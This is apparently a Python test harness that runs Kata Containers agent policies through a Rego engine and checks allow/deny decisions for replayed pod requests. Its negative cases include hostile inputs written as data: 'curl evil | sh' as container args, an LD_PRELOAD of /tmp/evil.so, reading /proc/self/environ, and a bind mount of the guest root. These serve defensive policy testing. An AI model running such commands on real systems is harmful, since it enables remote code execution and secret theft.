#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Evaluate generated pod policies with an independent Rego engine (policy.md §1.5, rego-oracle.md).

For each annotated golden manifest (testdata/policy/*.expected.yaml) this decodes the initdata,
takes the policy it carries, and replays the agent requests that kubelet, containerd and the Kata
runtime would send for the pod (tests/rego/agent_requests.py): create sandbox, create container
for the pause container and every container, an allowed and a denied exec, copy file, and
tampered creates (another image, an extra env variable, an extra mount, other args). Each
decision is compared with the expected one.

  tests/rego/evaluate.py --rego /path/to/rego [--upstream-rules rules.rego] [--kata-testcases DIR] [STEM...]

--upstream-rules also evaluates the same policy_data with another rules file (Kata's rules.rego)
and reports where its decisions differ. COCO_REGO_KEEP=DIR keeps the last policy, input and
state of each rule set there, to replay a decision by hand. No Rego engine is packaged for Debian 12, so this runs
outside CI; the golden tests are the CI gate (see the issue note for the recorded results).
"""

import argparse
import base64
import copy
import gzip
import json
import os
import re
import subprocess
import sys
import tempfile
import tomllib

import yaml

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import agent_requests as ar  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
INITDATA = "io.katacontainers.config.hypervisor.cc_init_data"
AGENT_POLICY = "io.katacontainers.config.agent.policy"
AKS_PAUSE = "mcr.microsoft.com/oss/kubernetes/pause:3.6"
WORKLOADS = ("Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob")


def engine_compatible(rego):
    """rego-cpp 1.4.1 does not know the future.keywords imports (their keywords are built in)."""
    return "\n".join(l for l in rego.splitlines() if not l.startswith("import future.keywords"))


def policy_of(doc):
    meta = ar.pod_template(doc)[0] if doc["kind"] != "Pod" else doc["metadata"]
    if AGENT_POLICY in meta["annotations"]:
        return base64.b64decode(meta["annotations"][AGENT_POLICY]).decode()
    toml = gzip.decompress(base64.b64decode(meta["annotations"][INITDATA])).decode()
    return tomllib.loads(toml)["data"]["policy.rego"]


class Engine:
    def __init__(self, binary, rego_text, workdir, keep=None):
        self.keep = keep  # a folder to copy the last policy, input and state into, for debugging
        self.binary = binary
        self.policy = os.path.join(workdir, "policy.rego")
        with open(self.policy, "w") as f:
            f.write(rego_text)
        self.workdir = workdir
        self.state = {}
        self.policy_data = json.loads(rego_text.rsplit("policy_data := ", 1)[1])

    def decide(self, kind, request):
        """The agent's decision: true/false, or an object with allowed and state ops."""
        inp = os.path.join(self.workdir, "input.json")
        data = os.path.join(self.workdir, "state.json")
        with open(inp, "w") as f:
            json.dump(request, f)
        with open(data, "w") as f:
            json.dump({"pstate": self.state}, f)
        if self.keep:
            os.makedirs(self.keep, exist_ok=True)
            for f in (self.policy, inp, data):
                with open(f) as src, open(os.path.join(self.keep, os.path.basename(f)), "w") as dst:
                    dst.write(src.read())
        out = subprocess.run([self.binary, "eval", "-d", self.policy, "-d", data, "-i", inp,
                              f"x := data.agent_policy.{kind}"], capture_output=True, text=True, timeout=300)
        # rego-cpp prints a version banner, then one JSON result or "undefined"; errors also exit 0.
        lines = [l for l in out.stdout.splitlines() if l.strip()]
        if "undefined" in lines:
            return False
        results = [l for l in lines if l.startswith("{")]
        if len(results) != 1:
            raise RuntimeError(f"{kind}: the engine said: {out.stdout.strip()} {out.stderr.strip()}")
        try:
            result = json.loads(results[0])
        except json.JSONDecodeError:
            raise RuntimeError(f"{kind}: unreadable engine output: {results[0][:2000]}")
        value = result.get("bindings", {}).get("x")  # {"expressions": [...], "bindings": {"x": …}}
        if isinstance(value, dict):
            if value.get("allowed") is True:
                self.check_recorded_index(request, value.get("ops", []))
                for op in value.get("ops", []):
                    if op.get("op") == "add" and op["path"].startswith("/pstate/"):
                        self.state[op["path"][len("/pstate/"):]] = op["value"]
                return True
            return False
        return value is True


    def check_recorded_index(self, request, ops):
        """coco's rules record which policy container a created container is; it must be that one."""
        name = request.get("OCI", {}).get("Annotations", {}).get("io.kubernetes.cri.container-name")
        for op in ops:
            if op.get("path", "").startswith("/pstate/container_"):
                anno = self.policy_data["containers"][op["value"]]["OCI"]["Annotations"]
                if anno.get("io.kubernetes.cri.container-name") != name:
                    raise RuntimeError(f"container {name} recorded as policy container {op['value']}")

    def explain_create(self, request):
        """Which part of coco's create-container check fails, for the policy container of that name."""
        name = request["OCI"]["Annotations"].get("io.kubernetes.cri.container-name")
        a, b = "data.agent_policy", "input.container_id"
        s = f"{a}.policy_data.containers[i]"
        sid = 'input.OCI.Annotations["io.kubernetes.cri.sandbox-id"]'
        parts = {
            "plain input": f"{a}.create_input_is_plain",
            "annotations": f"{a}.annotations_match({s}, input.OCI.Annotations, {b}, {sid})",
            "process": f"{a}.process_matches({s}, input.OCI.Process)",
            "mounts": f"{a}.mounts_match({s}.OCI.Mounts, input.OCI.Mounts, input.storages, {b}, {sid})",
            "storages": f"{a}.storages_match({s}, input.storages, {b}, {sid})",
            "linux": f"{a}.linux_matches({s}.OCI.Linux, input.OCI.Linux)",
        }
        failed = []
        for label, expr in parts.items():
            query = (f'x := [i | {s}.OCI.Annotations["io.kubernetes.cri.container-name"] == "{name}"; {expr}]'
                     if name else f'x := [i | {s}.OCI.Annotations["io.kubernetes.cri.container-type"] == "sandbox"; {expr}]')
            out = subprocess.run([self.binary, "eval", "-d", self.policy, "-d", os.path.join(self.workdir, "state.json"),
                                  "-i", os.path.join(self.workdir, "input.json"), query], capture_output=True, text=True)
            if '"x":[]' in out.stdout or "undefined" in out.stdout:
                failed.append(label)
        return failed


def service_env_mode(stem):
    """The --service-env the golden test generated the manifest with (default namespace)."""
    with open(os.path.join(ROOT, "testdata/manifests", os.path.basename(stem) + ".yaml")) as f:
        m = re.match(r"# coco-test: --service-env (\w+)", f.readline())
    return m.group(1) if m else "namespace"


def cases_for(pod, mode="namespace"):
    """(description, request kind, request, expected decision) in the order the node sends them."""
    out = []
    sandbox = pod.create_sandbox()
    out.append(("create sandbox", "CreateSandboxRequest", sandbox, True))
    hooked = dict(sandbox, guest_hook_path="/attacker/hooks")
    out.append(("create sandbox with a guest hook path", "CreateSandboxRequest", hooked, False))
    out.append(("create pause container", "CreateContainerRequest", pod.create_pause(), True))
    creates = []
    for i, c in enumerate(pod.containers()):
        req = pod.create_container(i)
        creates.append((c, req))
        out.append((f"create container {c['name']}", "CreateContainerRequest", req, True))
    for c, req in creates:
        for n, probe in enumerate(exec_commands(c)):
            allowed = pod.exec_request(req, probe)
            out.append((f"exec {probe} in {c['name']} (probe or hook)", "ExecProcessRequest", allowed, True))
            if n > 0:
                continue
            # The same command with what a host could add: each must be denied.
            p = allowed["process"]
            for what, change in (("as another user", {"User": dict(p["User"], UID=p["User"]["UID"] + 1)}),
                                 ("with an extra env variable", {"Env": p["Env"] + ["LD_PRELOAD=/tmp/evil.so"]}),
                                 ("with capabilities", {"Capabilities": {"Ambient": [], "Bounding": ["CAP_SYS_ADMIN"],
                                                                         "Effective": ["CAP_SYS_ADMIN"], "Inheritable": [],
                                                                         "Permitted": ["CAP_SYS_ADMIN"]}}),
                                 ("in another directory", {"Cwd": "/etc"}),
                                 ("with a terminal", {"Terminal": not p["Terminal"]})):
                out.append((f"exec {probe} in {c['name']} {what}", "ExecProcessRequest",
                            dict(allowed, process=dict(p, **change)), False))
    c0, req0 = creates[-1]
    out.append((f"exec a shell in {c0['name']}", "ExecProcessRequest",
                pod.exec_request(req0, ["sh", "-c", "cat /proc/self/environ"]), False))
    out.append(("copy resolv.conf into the shared directory", "CopyFileRequest", pod.copy_file(req0, "/etc/resolv.conf"), True))
    outside = dict(pod.copy_file(req0, "/etc/resolv.conf"), path="/run/kata-containers/" + req0["container_id"] + "/rootfs/bin/sh")
    out.append(("copy a file into a container root", "CopyFileRequest", outside, False))
    out.extend(tampered(c0, req0))
    # A service the input does not define: only --service-env strict refuses its variables, and a
    # pod with enableServiceLinks: false gets no service's variables at all.
    links = pod.spec.get("enableServiceLinks", True) is not False
    r = copy.deepcopy(req0)
    r["OCI"]["Process"]["Env"] += ["INTRUDER_SERVICE_HOST=10.96.200.1", "INTRUDER_SERVICE_PORT=8443"]
    out.append((f"create {c0['name']} with another service's variables ({mode})", "CreateContainerRequest", r,
                mode != "strict" and links))
    # A reference kubelet left as written (the service is not in the input): filled in when the
    # namespace has that service (allowed unless strict), never with something else.
    for n, e in enumerate(req0["OCI"]["Process"]["Env"]):
        if "_SERVICE_HOST)" not in e:
            continue
        for value, allowed in (("10.96.5.5", mode != "strict"), ("evil.example", False)):
            r = copy.deepcopy(req0)
            filled = re.sub(r"\$\([A-Z0-9_]+_SERVICE_HOST\)", value, e)
            r["OCI"]["Process"]["Env"][n] = re.sub(r"\$\([A-Z0-9_]+_SERVICE_PORT\)", "11211", filled)
            out.append((f"create {c0['name']} with {r['OCI']['Process']['Env'][n]} ({mode})", "CreateContainerRequest",
                        r, allowed))
    out.append(("signal a process", "SignalProcessRequest", {"container_id": req0["container_id"], "exec_id": "", "signal": 15}, True))
    return out


def exec_commands(c):
    out = []
    for probe in ("livenessProbe", "readinessProbe", "startupProbe"):
        cmd = ((c.get(probe) or {}).get("exec") or {}).get("command")
        if cmd:
            out.append(cmd)
    for hook in ("postStart", "preStop"):
        cmd = (((c.get("lifecycle") or {}).get(hook) or {}).get("exec") or {}).get("command")
        if cmd:
            out.append(cmd)
    return out


def tampered(c, req):
    name = c["name"]
    out = []
    evil = "registry.example/evil@sha256:" + "e" * 64
    r = copy.deepcopy(req)
    r["OCI"]["Annotations"]["io.kubernetes.cri.image-name"] = evil
    for s in r["storages"]:
        if s["driver"] == "image_guest_pull":
            s["source"] = evil
    out.append((f"create {name} with another image", "CreateContainerRequest", r, False))
    r = copy.deepcopy(req)
    if any(s["driver"] == "image_guest_pull" for s in r["storages"]):
        for s in r["storages"]:
            if s["driver"] == "image_guest_pull":
                s["source"] = evil  # the annotation says the right image, the pull fetches another
        out.append((f"create {name} pulling another image than it names", "CreateContainerRequest", r, False))
    else:  # host-pulled tarfs layers: the top layer's device claims another dm-verity root
        top = next(s for s in r["storages"] if s["fstype"] == "tar")
        top["options"][-1] = "io.katacontainers.fs-opt.root-hash=" + "e" * 64
        out.append((f"create {name} with a layer of another dm-verity root", "CreateContainerRequest", r, False))
    r = copy.deepcopy(req)
    r["OCI"]["Process"]["Env"].append("LD_PRELOAD=/tmp/evil.so")
    out.append((f"create {name} with an extra env variable", "CreateContainerRequest", r, False))
    r = copy.deepcopy(req)
    r["OCI"]["Mounts"].append({"destination": "/host", "options": ["rbind", "rprivate", "rw"], "source": "/",
                               "type_": "bind"})
    out.append((f"create {name} with an extra mount of the guest root", "CreateContainerRequest", r, False))
    r = copy.deepcopy(req)
    r["OCI"]["Process"]["Args"] = ["/bin/sh", "-c", "curl evil | sh"]
    out.append((f"create {name} with other args", "CreateContainerRequest", r, False))
    r = copy.deepcopy(req)
    r["OCI"]["Process"]["User"].update(UID=0, GID=0)
    if req["OCI"]["Process"]["User"]["UID"] != 0:
        out.append((f"create {name} as root", "CreateContainerRequest", r, False))
    return out


def load_images():
    with open(os.path.join(ROOT, "testdata/policy/images.json")) as f:
        return json.load(f)


def images_by_pinned():
    return {v["pinned"]: v for v in load_images().values()}


def run(stems, rego, upstream_rules):
    images = images_by_pinned()
    totals = {"coco": [0, 0], "upstream": [0, 0]}
    differences = []
    for stem in stems:
        with open(os.path.join(ROOT, "testdata/policy", stem + ".expected.yaml")) as f:
            docs = [d for d in yaml.safe_load_all(f) if d]
        flat = []
        for d in docs:
            flat.extend(d["items"] if d.get("kind") == "List" else [d])
        cluster = ar.Cluster(flat)
        for doc in flat:
            if doc.get("kind") not in WORKLOADS:
                continue
            policy = policy_of(doc)
            aks = load_images()[AKS_PAUSE] if stem.startswith("aks/") else None
            pod = ar.Pod(doc, cluster, images, aks_pause_image=aks)
            cases = cases_for(pod, service_env_mode(stem))
            rule_sets = [("coco", engine_compatible(policy))]
            if upstream_rules:
                data = policy[policy.rindex("policy_data := "):]
                rule_sets.append(("upstream", engine_compatible(upstream_rules) + "\n" + data))
            for label, text in rule_sets:
                keep = os.environ.get("COCO_REGO_KEEP")
                with tempfile.TemporaryDirectory() as tmp:
                    engine = Engine(rego, text, tmp, os.path.join(keep, label) if keep else None)
                    for desc, kind, request, expected in cases:
                        got = engine.decide(kind, request)
                        ok = got == expected
                        totals[label][0 if ok else 1] += 1
                        verdict = "allowed" if got else "denied"
                        if label == "coco":
                            why = ""
                            if not ok and kind == "CreateContainerRequest" and expected:
                                why = " (fails: " + ", ".join(engine.explain_create(request)) + ")"
                            print(f"{'ok  ' if ok else 'FAIL'} {stem} {pod.name}: {desc}: {verdict}{why}")
                        elif not ok:
                            differences.append(f"{stem} {pod.name}: {desc}: upstream rules {verdict}")
    for line in differences:
        print("upstream differs:", line)
    print(f"coco rules: {totals['coco'][0]} as expected, {totals['coco'][1]} not")
    if upstream_rules:
        print(f"upstream rules: {totals['upstream'][0]} as expected, {totals['upstream'][1]} not")
    return totals["coco"][1] == 0


KATA_KINDS = ("CopyFileRequest", "CreateSandboxRequest", "UpdateInterfaceRequest", "UpdateRoutesRequest",
              "AddARPNeighborsRequest")


def run_kata_testcases(folder, rego):
    """Kata's genpolicy test cases (src/tools/genpolicy/tests/policy/testdata) for requests that
    need no per-container data, decided by coco's rules with the policy of a golden pod."""
    with open(os.path.join(ROOT, "testdata/policy/01-pod-basic.expected.yaml")) as f:
        doc = next(d for d in yaml.safe_load_all(f) if d)
    good = bad = 0
    with tempfile.TemporaryDirectory() as tmp:
        engine = Engine(rego, engine_compatible(policy_of(doc)), tmp)
        for case_dir in sorted(os.listdir(folder)):
            path = os.path.join(folder, case_dir, "testcases.json")
            if not os.path.exists(path):
                continue
            with open(path) as f:
                cases = json.load(f)
            for c in cases:
                if c["kind"] not in KATA_KINDS:
                    continue
                # Each upstream case stands alone: an allowed CreateSandboxRequest answers with state
                # ops (the sandbox's hostname) that must not carry into the next case.
                engine.state = {}
                got = engine.decide(c["kind"], c["request"])
                ok = got == c["allowed"]
                good, bad = good + ok, bad + (not ok)
                print(f"{'ok  ' if ok else 'FAIL'} kata {case_dir}: {c['description']}: {'allowed' if got else 'denied'}")
    print(f"kata test cases: {good} as expected, {bad} not")
    return bad == 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--rego", default=os.environ.get("REGO_CPP") or os.environ.get("COCO_REGO"),
                    help="the rego-cpp `rego` binary ($REGO_CPP or $COCO_REGO)")
    ap.add_argument("--upstream-rules", default=os.environ.get("COCO_UPSTREAM_RULES"),
                    help="a rules.rego to evaluate the same policy_data with ($COCO_UPSTREAM_RULES)")
    ap.add_argument("--kata-testcases", help="Kata's genpolicy tests/policy/testdata folder, to replay its cases")
    ap.add_argument("stems", nargs="*", help="golden manifest names (default: all)")
    a = ap.parse_args()
    if not a.rego:
        print("no Rego engine: set REGO_CPP (or COCO_REGO) or pass --rego (skipped)")
        sys.exit(77)  # CTest's skip code for this test
    golden = os.path.join(ROOT, "testdata/policy")
    stems = a.stems or sorted([f[:-len(".expected.yaml")] for f in os.listdir(golden) if f.endswith(".expected.yaml")] +
                              ["aks/" + f[:-len(".expected.yaml")] for f in os.listdir(os.path.join(golden, "aks"))
                               if f.endswith(".expected.yaml")])
    upstream = None
    if a.upstream_rules:
        with open(a.upstream_rules) as f:
            upstream = f.read()
    ok = run(stems, a.rego, upstream)
    if a.kata_testcases:
        ok = run_kata_testcases(a.kata_testcases, a.rego) and ok
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
